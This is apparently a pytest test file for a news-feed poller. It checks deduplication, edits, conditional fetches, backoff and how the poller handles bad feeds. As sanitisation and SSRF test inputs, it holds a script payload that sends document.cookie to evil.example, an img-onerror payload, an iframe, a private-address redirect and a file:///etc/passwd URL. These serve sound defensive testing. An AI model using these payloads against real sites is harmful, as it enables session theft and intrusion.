"""Polling stores new and edited feed items once, fetches full pages, and survives bad feeds."""

from datetime import UTC, datetime, timedelta
from email.utils import format_datetime

import pytest

from retrieval.alerts.alerter import Alerter
from retrieval.core.collection import Collection
from retrieval.news.feeds import FULL_TEXT_CHARS, FeedError
from retrieval.news.fetch import Fetcher, FetchError
from retrieval.news.poller import FeedOutcome, Poller
from retrieval.news.store import MAX_BACKOFF, FeedRecord, open_feeds
from tests.conftest import ManualClock
from tests.feedserver import FeedServer, atom, page, rss

RANSOMWARE = (
    "Dutch police arrested four suspects in Rotterdam on Tuesday, accusing them of running a "
    "ransomware operation that extorted hospitals across Europe. Investigators said the group "
    "laundered its ransom payments through a chain of cryptocurrency exchanges in three "
    "countries. Prosecutors told reporters that the suspects had encrypted the records of at "
    "least twelve clinics and demanded payment in bitcoin within forty-eight hours. The raids "
    "followed a two-year investigation coordinated by Europol and the Dutch high tech crime "
    "unit. Officers seized laptops, hard drives and several thousand euros in cash from the "
    "apartments searched during the operation."
)
PHISHING = (
    "Spanish authorities dismantled a phishing network that targeted the customers of "
    "several large banks with fake text messages about blocked accounts. The messages led to "
    "cloned login pages where victims typed their passwords and card numbers. According to "
    "the Guardia Civil, the network stole more than two million euros before it was detected "
    "by a fraud team at one of the banks. Nineteen people were detained in Madrid, Valencia "
    "and Seville. The police urged bank customers to ignore messages asking them to confirm "
    "their details through a link and to call their bank directly instead. Officers said "
    "the group rented its servers abroad under false names."
)
SATELLITE = (
    "A new weather satellite was launched from French Guiana on Thursday evening and reached "
    "its planned orbit a few hours later, the European space agency said. The satellite "
    "carries instruments that measure temperature and humidity across the atmosphere every "
    "ten minutes. Meteorologists expect the data to improve forecasts of severe storms over "
    "the Atlantic ocean. Engineers will spend the next six months testing the instruments "
    "before the first images are released to national weather services in the spring. The "
    "launch was delayed twice by strong winds at the spaceport earlier in the week, and the "
    "rocket lifted off a few minutes after sunset."
)
assert min(len(RANSOMWARE), len(PHISHING), len(SATELLITE)) >= FULL_TEXT_CHARS  # no page fetch
SCRIPT = "<script>document.location='http://evil.example/?c='+document.cookie</script>"


def item(n: int, text: str, **fields: str) -> dict[str, str]:
    """A feed item numbered n, published n hours ago, carrying the full text of an article."""
    return {
        "title": f"Story {n}",
        "link": f"https://news.example/story/{n}",
        "guid": f"news-{n}",
        "description": text,
        "pubDate": format_datetime(datetime.now(UTC) - timedelta(hours=n)),
        **fields,
    }


def follow(poller: Poller, url: str) -> FeedRecord:
    """Follow a feed without polling it."""
    return poller.feeds.add(url)[0]


def article_count(collection: Collection) -> int:
    """How many articles are stored."""
    return collection.store.db.execute("SELECT count(*) FROM articles").fetchone()[0]


def stored_texts(collection: Collection) -> list[str]:
    """The text of every stored article, oldest first."""
    rows = collection.store.db.execute("SELECT text FROM articles ORDER BY id").fetchall()
    return [row[0] for row in rows]


@pytest.fixture
def poller(collection: Collection, fetcher: Fetcher, clock: ManualClock) -> Poller:
    """A poller over the fake-embedder collection, fetching from the local server."""
    return Poller(collection, fetcher, clock)


def test_new_items_are_stored_with_the_feed_as_outlet(
    poller: Poller, feed_server: FeedServer, collection: Collection
) -> None:
    dated = item(1, RANSOMWARE, pubDate="Wed, 01 May 2024 12:00:00 +0200")
    feed_server.set("/feed.xml", rss([dated, item(2, PHISHING)], title="Wire"))
    feed = follow(poller, feed_server.url("/feed.xml"))
    report = poller.poll_all()
    assert report.new == 2 and report.errors == []
    stored = collection.store.articles([1, 2])
    assert [(a.title, a.url, a.source) for a in stored.values()] == [
        ("Story 1", "https://news.example/story/1", "Wire"),
        ("Story 2", "https://news.example/story/2", "Wire"),
    ]
    assert stored[1].text == RANSOMWARE and stored[1].published == "2024-05-01T10:00:00+00:00"
    polled = poller.feeds.get(feed.id)
    assert (polled.title, polled.last_error, polled.errors) == ("Wire", None, 0)
    answer = collection.ask("Which exchanges laundered the ransom payments?")
    assert not answer.abstained and answer.quotes[0].url == "https://news.example/story/1"


def test_unchanged_feed_is_fetched_conditionally_and_stores_nothing(
    poller: Poller, feed_server: FeedServer, collection: Collection
) -> None:
    feed_server.set("/feed.xml", rss([item(1, RANSOMWARE)]), etag='"rev-1"')
    follow(poller, feed_server.url("/feed.xml"))
    poller.poll_all()
    calls = collection.embedder.calls
    report = poller.poll_all()
    (outcome,) = report.feeds
    assert outcome.unchanged and report.new == 0 and outcome.updated == 0
    first, second = feed_server.requests_for("/feed.xml")
    assert "if-none-match" not in first.headers
    assert second.headers["if-none-match"] == '"rev-1"'
    assert article_count(collection) == 1 and collection.embedder.calls == calls


def test_items_seen_before_are_not_read_again_without_an_etag(
    poller: Poller, feed_server: FeedServer, collection: Collection
) -> None:
    teaser = item(2, "Phishing network dismantled.", link=feed_server.url("/story/2"))
    feed_server.set("/story/2", page("Phishing", PHISHING.split(". ")), "text/html")
    feed_server.set("/feed.xml", rss([item(1, RANSOMWARE), teaser]))
    follow(poller, feed_server.url("/feed.xml"))
    assert poller.poll_all().new == 2
    calls = collection.embedder.calls
    report = poller.poll_all()
    assert (report.new, report.feeds[0].updated, report.feeds[0].unchanged) == (0, 0, False)
    assert collection.embedder.calls == calls and article_count(collection) == 2
    assert len(feed_server.requests_for("/story/2")) == 1


def test_edited_item_updates_its_article_without_a_second_story(
    poller: Poller, feed_server: FeedServer, collection: Collection
) -> None:
    # The fake embedder's similarities run lower than the real model's, hence a lower threshold.
    alerter = Alerter(collection, threshold=0.3)
    alerter.subscribe(7, 7, "ransomware police arrests")
    feed_server.set("/feed.xml", rss([item(1, RANSOMWARE)]))
    follow(poller, feed_server.url("/feed.xml"))
    poller.poll_all()
    assert alerter.match_new() == 1
    correction = RANSOMWARE.replace("four suspects", "five suspects")
    feed_server.set("/feed.xml", rss([item(1, correction, title="Story 1 (updated)")]))
    (outcome,) = poller.poll_all().feeds
    assert (outcome.new, outcome.updated) == (0, 1)
    article = collection.store.article(1)
    assert article.title == "Story 1 (updated)" and "five suspects" in article.text
    assert "four suspects" not in article.text and article_count(collection) == 1
    assert alerter.match_new() == 0
    assert [len(d.stories) for d in alerter.deliveries()] == [1]
    answer = collection.ask("How many suspects were arrested in Rotterdam?")
    assert all("four suspects" not in quote.text for quote in answer.quotes)


def test_summary_only_item_is_stored_with_the_full_page_text(
    poller: Poller, feed_server: FeedServer, collection: Collection
) -> None:
    only_on_page = "The suspects kept their servers in a rented garage near the harbour."
    paragraphs = [f"{sentence}." for sentence in RANSOMWARE.split(". ")[:2]] + [only_on_page]
    feed_server.set("/story/9", page("Ransomware gang arrested", paragraphs), "text/html")
    teaser = item(9, "Four arrested in ransomware raids.", link=feed_server.url("/story/9"))
    feed_server.set("/feed.xml", rss([teaser], title="Wire"))
    follow(poller, feed_server.url("/feed.xml"))
    (outcome,) = poller.poll_all().feeds
    assert outcome.new == 1 and outcome.warnings == []
    (text,) = stored_texts(collection)
    assert only_on_page in text and "Europol" not in text
    stored = collection.store.article(1)
    assert (stored.title, stored.source) == ("Story 9", "Wire")
    assert stored.url == feed_server.url("/story/9")


def test_the_publisher_named_by_the_page_is_the_outlet_else_the_feeds_name(
    poller: Poller, feed_server: FeedServer, collection: Collection
) -> None:
    paragraphs = [f"{sentence}." for sentence in RANSOMWARE.split(". ")]
    named = page("Ransomware gang arrested", paragraphs).replace(
        "<head>", '<head><meta property="og:site_name" content="The Daily Ledger">'
    )
    feed_server.set("/story/1", named, "text/html")
    feed_server.set("/story/2", page("Phishing ring", PHISHING.split(". ")), "text/html")
    teasers = [
        item(n, "A teaser.", link=feed_server.url(f"/story/{n}"), title=f"Story {n}")
        for n in (1, 2)
    ]
    feed_server.set("/feed.xml", rss(teasers, title="Aggregator Wire"))
    follow(poller, feed_server.url("/feed.xml"))
    assert poller.poll_all().new == 2
    stored = collection.store.articles([1, 2])
    # the page names its publisher; a page naming none (just its host) keeps the feed's name
    assert [stored[1].source, stored[2].source] == ["The Daily Ledger", "Aggregator Wire"]


def test_summary_is_kept_when_the_page_cannot_be_fetched(
    poller: Poller, feed_server: FeedServer, collection: Collection
) -> None:
    teaser = item(3, "Four arrested in ransomware raids.", link=feed_server.url("/missing"))
    feed_server.set("/feed.xml", rss([teaser]))
    follow(poller, feed_server.url("/feed.xml"))
    (outcome,) = poller.poll_all().feeds
    assert outcome.new == 1 and outcome.error is None
    assert stored_texts(collection) == ["Four arrested in ransomware raids."]
    assert "HTTP 404" in outcome.warnings[0]


def test_same_article_under_a_tracking_url_is_one_article(
    poller: Poller, feed_server: FeedServer, collection: Collection
) -> None:
    tracked = item(1, RANSOMWARE, link="https://news.example/story/1?utm_source=b&utm_medium=rss")
    feed_server.set("/a.xml", rss([item(1, RANSOMWARE)], title="Outlet A"))
    feed_server.set("/b.xml", atom([{**tracked, "guid": "urn:b:77"}], title="Outlet B"))
    follow(poller, feed_server.url("/a.xml"))
    follow(poller, feed_server.url("/b.xml"))
    report = poller.poll_all()
    assert report.new == 1 and report.errors == [] and article_count(collection) == 1
    rows = collection.store.db.execute("SELECT feed_id, article_id FROM feed_items").fetchall()
    assert sorted(rows) == [(1, 1), (2, 1)]
    assert poller.poll_all().new == 0 and article_count(collection) == 1


def bad_feed(feed_server: FeedServer, kind: str) -> str:
    """Serve a feed that fails in some way; returns its path."""
    if kind == "garbage":
        feed_server.set("/bad", b"\x00\x01\x02 this is not xml")
    elif kind == "html-page":
        feed_server.set("/bad", page("Home", ["Welcome to our website."]), "text/html")
    elif kind == "html-as-xml":
        feed_server.set("/bad", "<html><body><p>Not a feed.</p></body></html>", "text/xml")
    elif kind == "huge":
        feed_server.huge("/bad", 6 * 1024 * 1024, declare=False)
    elif kind == "private-redirect":
        feed_server.redirect("/bad", "http://10.0.0.1/feed.xml")
    elif kind == "server-error":
        feed_server.set("/bad", "oops", status=500)
    return "/bad"


@pytest.mark.parametrize(
    ("kind", "error"),
    [
        ("garbage", "not an RSS or Atom feed"),
        ("html-page", "is text/html, not a feed"),
        ("html-as-xml", "not an RSS or Atom feed"),
        ("huge", "too large"),
        ("private-redirect", "10.0.0.1 is a private or local address"),
        ("server-error", "HTTP 500"),
    ],
)
def test_failing_feed_keeps_its_error_and_the_others_are_stored(
    poller: Poller, feed_server: FeedServer, collection: Collection, kind: str, error: str
) -> None:
    bad = follow(poller, feed_server.url(bad_feed(feed_server, kind)))
    feed_server.set("/good.xml", rss([item(1, RANSOMWARE), item(2, PHISHING)]))
    good = follow(poller, feed_server.url("/good.xml"))
    report = poller.poll_all()
    assert [outcome.feed.id for outcome in report.errors] == [bad.id]
    assert report.new == 2 and article_count(collection) == 2
    failed = poller.feeds.get(bad.id)
    assert failed.last_error is not None and error in failed.last_error and failed.errors == 1
    assert poller.feeds.get(good.id).last_error is None


def test_poll_all_tells_of_each_feed_as_it_is_done(poller: Poller, feed_server: FeedServer) -> None:
    feed_server.set("/a.xml", rss([item(1, RANSOMWARE)], title="A"))
    feed_server.set("/b.xml", "<html>not a feed</html>", content_type="text/html")
    for path in ("/a.xml", "/b.xml"):
        follow(poller, feed_server.url(path))
    heard: list[FeedOutcome] = []
    report = poller.poll_all(on_feed=heard.append)
    assert heard == report.feeds  # in the order they were done
    assert {o.feed.url[-5:]: bool(o.error) for o in heard} == {"a.xml": False, "b.xml": True}


def test_item_with_a_malformed_link_does_not_stop_the_poll(
    poller: Poller, feed_server: FeedServer, collection: Collection
) -> None:
    feed_server.set("/a.xml", rss([item(1, RANSOMWARE, link="http://[oops/story")]))
    feed_server.set("/b.xml", rss([item(2, PHISHING)]))
    follow(poller, feed_server.url("/a.xml"))
    follow(poller, feed_server.url("/b.xml"))
    report = poller.poll_all()
    assert report.new == 2 and report.errors == []
    assert sorted(stored_texts(collection)) == sorted([RANSOMWARE, PHISHING])  # as they arrive


def test_repeated_failures_back_off_and_success_resets(
    poller: Poller, feed_server: FeedServer, clock: ManualClock
) -> None:
    feed_server.set("/feed.xml", "not a feed", "application/xml")
    feed = follow(poller, feed_server.url("/feed.xml"))
    delays = []
    for _ in range(4):
        assert len(poller.poll_due().feeds) == 1
        next_poll = datetime.fromisoformat(poller.feeds.get(feed.id).next_poll_at)
        delays.append(next_poll - clock())
        clock.advance(seconds=(next_poll - clock()).total_seconds() - 1)
        assert poller.poll_due().feeds == []  # not due yet: the server is left alone
        clock.advance(seconds=1)
    assert delays == [timedelta(minutes=m) for m in (30, 60, 120, 240)]
    assert len(feed_server.requests_for("/feed.xml")) == 4
    assert poller.feeds.get(feed.id).errors == 4
    feed_server.set("/feed.xml", rss([item(1, RANSOMWARE)]))
    assert poller.poll_due().new == 1
    healed = poller.feeds.get(feed.id)
    assert (healed.errors, healed.last_error) == (0, None)
    assert datetime.fromisoformat(healed.next_poll_at) - clock() == timedelta(minutes=15)


def test_backoff_is_capped_at_a_day(
    poller: Poller, feed_server: FeedServer, clock: ManualClock
) -> None:
    feed = follow(poller, feed_server.url("/never-there.xml"))
    for _ in range(12):
        poller.poll(poller.feeds.get(feed.id))
    failed = poller.feeds.get(feed.id)
    assert failed.errors == 12 and "HTTP 404" in (failed.last_error or "")
    assert datetime.fromisoformat(failed.next_poll_at) - clock() == MAX_BACKOFF


def test_a_recovered_feed_answering_not_modified_shows_no_old_error(
    poller: Poller, feed_server: FeedServer
) -> None:
    feed_server.set("/feed.xml", rss([item(1, RANSOMWARE)]), etag='"r1"')
    feed = follow(poller, feed_server.url("/feed.xml"))
    poller.poll_all()
    feed_server.set("/feed.xml", "down for maintenance", status=503)
    poller.poll_all()
    assert "HTTP 503" in (poller.feeds.get(feed.id).last_error or "")
    feed_server.set("/feed.xml", rss([item(1, RANSOMWARE)]), etag='"r1"')
    (outcome,) = poller.poll_all().feeds
    assert outcome.unchanged
    healed = poller.feeds.get(feed.id)
    assert (healed.errors, healed.last_error) == (0, None)


@pytest.mark.parametrize(
    "html",
    [
        f"{SCRIPT}Police in Rotterdam arrested four ransomware suspects.",
        '<img src="x" onerror="alert(1)">Police in Rotterdam arrested four ransomware suspects.',
        f"<p>Police in Rotterdam arrested four ransomware suspects.</p>{SCRIPT}",
        "<table><tr><td>Police in Rotterdam arrested four ransomware suspects.</td></tr></table>"
        "<style>td { color: red }</style><iframe src='http://evil.example/'></iframe>",
    ],
    ids=["script", "img-onerror", "p-and-script", "table-style-iframe"],
)
def test_markup_in_items_never_reaches_the_stored_text(
    poller: Poller, feed_server: FeedServer, collection: Collection, html: str
) -> None:
    padding = " <b>More:</b> " + PHISHING  # long enough to be read as full text, no page fetch
    feed_server.set("/feed.xml", rss([item(1, html + padding)]))
    feed_server.set("/rss-only.xml", rss([{"guid": "x-1", "title": "T", "description": html}]))
    follow(poller, feed_server.url("/feed.xml"))
    follow(poller, feed_server.url("/rss-only.xml"))
    assert poller.poll_all().new == 2
    for text in stored_texts(collection):
        assert "Police in Rotterdam arrested four ransomware suspects." in text
        assert "<" not in text and ">" not in text
        assert "cookie" not in text and "alert(" not in text and "color: red" not in text


def test_following_a_malformed_or_non_feed_url_is_refused(
    poller: Poller, feed_server: FeedServer
) -> None:
    feed_server.set("/home", page("Home", ["Welcome to our website."]), "text/html")
    feed_server.set("/home.xml", "<html><body><p>Not a feed.</p></body></html>", "text/xml")
    with pytest.raises(FetchError, match="malformed"):
        poller.add("http://[oops/feed.xml")
    with pytest.raises(FeedError, match="names no RSS or Atom feed"):
        poller.add(feed_server.url("/home"))
    with pytest.raises(FeedError):
        poller.add(feed_server.url("/home.xml"))
    with pytest.raises(FetchError, match="only http"):
        poller.add("file:///etc/passwd")
    assert open_feeds(poller.collection.store).all() == []


def test_following_a_feed_stores_its_items_at_once(
    poller: Poller, feed_server: FeedServer, collection: Collection
) -> None:
    feed_server.set("/feed.xml", rss([item(1, RANSOMWARE), item(2, SATELLITE)], title="Wire"))
    outcome, new = poller.add(feed_server.url("/feed.xml?utm_source=share"))
    assert new and outcome.new == 2 and outcome.feed.title == "Wire"
    assert outcome.feed.url == feed_server.url("/feed.xml")
    again, new_again = poller.add(feed_server.url("/feed.xml"))
    assert not new_again and again.feed.id == outcome.feed.id and article_count(collection) == 2


def test_a_new_feeds_old_items_are_stored_but_not_alerted(
    collection: Collection, fetcher: Fetcher, feed_server: FeedServer
) -> None:
    # The fake embedder's similarities run lower than the real model's, hence a lower threshold.
    alerter = Alerter(collection, threshold=0.3)
    alerter.subscribe(7, 7, "ransomware police arrests")
    old = item(1, RANSOMWARE, pubDate="Wed, 01 May 2024 10:00:00 +0000")
    feed_server.set("/feed.xml", rss([old]))
    outcome, _ = Poller(collection, fetcher).add(feed_server.url("/feed.xml"))
    assert outcome.new == 1
    assert alerter.match_new() == 0
